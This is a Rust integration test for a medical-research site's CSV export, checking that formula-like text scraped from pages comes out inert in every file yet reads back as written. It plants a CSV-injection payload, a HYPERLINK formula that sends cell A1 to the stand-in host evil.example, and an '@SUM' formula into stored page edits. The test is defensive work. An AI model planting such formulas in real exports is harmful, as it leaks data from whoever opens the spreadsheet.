//! CSV injection, on SQLite and PostgreSQL: scraped text that a spreadsheet would run as a formula
//! comes out of every CSV file inert — over HTTP and from the library the CLI writes with — and
//! reads back as it was written on the page.

mod common;

use common::TestApp;
use lmsdr_api::export::csv::{CsvEncoder, CsvFile, cell_value};
use lmsdr_api::export::{Encoder, Export};
use lmsdr_ingest::testing::store_bundled_edit;

/// What a hostile page puts in an item: a link that leaks the cell beside it, when clicked.
const HYPERLINK: &str = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")";

/// Whether a spreadsheet would read a cell as a formula.
fn runs(cell: &str) -> bool {
    cell.starts_with(['\t', '\r'])
        || (cell.trim_start().starts_with(['=', '+', '-', '@'])
            && cell.trim().parse::<f64>().is_err())
}

/// Every cell of a CSV file, after checking that none would run.
fn cells(file: &str, body: &[u8]) -> Vec<String> {
    let mut reader = csv::Reader::from_reader(body);
    let mut cells = Vec::new();
    for row in reader.records() {
        for cell in row.expect("a row").iter() {
            assert!(!runs(cell), "{file}: {cell:?} would run as a formula");
            cells.push(cell.to_owned());
        }
    }
    cells
}

#[tokio::test]
async fn formulas_in_scraped_text_come_out_inert_and_read_back_as_written() {
    for app in TestApp::all().await {
        let backend = app.db.backend();
        store_bundled_edit(
            &app.db.conn,
            "<LI>Cryoablation",
            "<LI>=HYPERLINK(\"http://evil.example/?x=\"&amp;A1,\"Click\") Cryoablation",
            "2030-01-01T00:00:00Z",
        )
        .await;
        store_bundled_edit(
            &app.db.conn,
            "<TITLE>LeioMyoSarcoma Direct Research Foundation - LMSdr</TITLE>",
            "<TITLE>@SUM(1+1) LMSdr treatments</TITLE>",
            "2030-01-02T00:00:00Z",
        )
        .await;

        let mut found = Vec::new();
        for file in CsvFile::ALL {
            let name = file.file_name();
            let response = app.get(&format!("/export/csv/{name}")).await;
            assert!(response.status.is_success(), "{backend} {name}");
            let values: Vec<String> = cells(name, &response.body)
                .iter()
                .map(|c| cell_value(c).to_owned())
                .collect();
            found.extend(values.into_iter().map(|v| (name, v)));
        }
        let holds = |file: &str, wanted: &str| {
            found
                .iter()
                .any(|(name, value)| *name == file && value.starts_with(wanted))
        };
        // Read back, the values are what the page says: nothing lost, nothing added.
        assert!(holds("treatments.csv", HYPERLINK), "{backend}");
        assert!(
            holds("pages.csv", "@SUM(1+1) LMSdr treatments"),
            "{backend}"
        );

        // The library the CLI's `export --format csv` writes with gives the same bytes' safety.
        for file in [CsvFile::Treatments, CsvFile::Pages, CsvFile::Mentions] {
            let mut export = Export::start(app.db.conn.clone(), vec![file.record_type()])
                .await
                .expect("an export");
            let mut encoder = CsvEncoder::new(file);
            let mut out = Vec::new();
            while let Some(record) = export.next().await.expect("a record") {
                encoder.record(&record, &mut out).expect("encoded");
            }
            encoder.finish(&mut out).expect("finished");
            cells(file.file_name(), &out);
        }
    }
}
